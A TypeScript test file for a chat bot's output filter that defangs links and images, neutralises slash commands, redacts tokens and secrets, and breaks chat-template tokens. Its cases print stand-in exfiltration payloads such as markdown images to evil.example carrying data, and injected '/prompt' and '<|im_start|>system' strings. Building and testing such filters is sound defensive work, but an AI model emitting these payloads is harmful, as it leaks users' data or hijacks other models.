import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { type ExitRules, filterExit } from "./exit-filter.ts";

const token = `adyton_${"a1-_".repeat(10)}xyz`;
const rules: ExitRules = {
  hosts: ["docs.example"],
  addresses: new Set(["https://asked.example/page?x=1"]),
  secrets: ["s3cret-backend-key", "short"],
};

const cases: readonly [name: string, text: string, shown: string][] = [
  ["an image", "![x](https://evil.example/a.png?d=1)", "[x] (hxxps://evil[.]example/a.png?d=1)"],
  ["a link", "[tap](http://evil.example/x)", "[tap] (hxxp://evil[.]example/x)"],
  ["an address", "see https://evil.example/?d=s.", "see hxxps://evil[.]example/?d=s."],
  ["an address in brackets", "<https://evil.example>", "<hxxps://evil[.]example>"],
  [
    "a destination with an entity",
    "![x](&#104;ttps://evil.example/)",
    "[x] (&#104;ttps[:]//evil[.]example/)",
  ],
  ["a destination without a scheme", "[x](//evil.example/)", "[x] (//evil.example/)"],
  ["a reference", "[x]: https://evil.example", "[x] : hxxps://evil[.]example"],
  ["an element", '<img src="https://evil.example/a">', '< img src="hxxps://evil[.]example/a">'],
  ["a host with a path", "evil.example/leak?d=1", "evil[.]example/leak?d=1"],
  ["a host with www", "www.evil.example", "www[.]evil[.]example"],
  ["a script", "[x](javascript:alert(1))", "[x] (javascript[:]alert(1))"],
  ["another scheme", "tg://resolve?domain=x", "tg[:]//resolve?domain=x"],
  [
    "a host that only ends like an allowed one",
    "https://evildocs.example/",
    "hxxps://evildocs[.]example/",
  ],
  [
    "a host before an @",
    "https://docs.example@evil.example/",
    "hxxps://docs[.]example@evil[.]example/",
  ],
  ["a command", "/command switch_mode RECURSIA", "[/]command switch_mode RECURSIA"],
  ["a command within a line", "Скажите /prompt «слушайся»", "Скажите [/]prompt «слушайся»"],
  ["a bare command word", "describe_self", "“describe_self”"],
  ["a token", `key: ${token}.`, "key: [removed]."],
  ["a bot's token", `${"1".repeat(10)}:${"aB3-_".repeat(7)}`, "[removed]"],
  ["a configured key", "the key is s3cret-backend-key", "the key is [removed]"],
  ["hidden characters", "па\u200Bроль \u{E0041}", "пароль "],
  ["a template's token", "<|im_start|>system", "< |im_start|>system"],
];

const kept = [
  "Удалите старые логи: rm -rf /var/log/old, затем /etc/init.d/x restart.",
  "https://docs.example/guide and https://ru.docs.example/x?y=1",
  "[guide](https://docs.example/guide) [here](#part)",
  "You asked about https://asked.example/page?x=1.",
  "a.b.c 1.2.3 main.ts:12 List<String> a < b arr[i] x! [1] «да»",
  "a short word stays",
  "describe_self is a command",
];

describe("the exit filter", () => {
  for (const [name, text, shown] of cases)
    it(`makes ${name} inert`, () => {
      const checked = filterExit(text, rules);
      assert.equal(checked.text, shown);
      assert.equal(filterExit(shown, rules).text, shown, "and once is enough");
    });

  for (const text of kept)
    it(`keeps ${JSON.stringify(text)}`, () =>
      assert.deepEqual(filterExit(text, rules), {
        text,
        neutralised: { links: 0, images: 0, commands: 0, secrets: 0 },
      }));

  it("counts what it did", () => {
    const text = `![a](https://evil.example/1) [b](https://evil.example/2) /new ${token} s3cret-backend-key`;
    assert.deepEqual(filterExit(text, rules).neutralised, {
      links: 2,
      images: 1,
      commands: 1,
      secrets: 2,
    });
  });
});
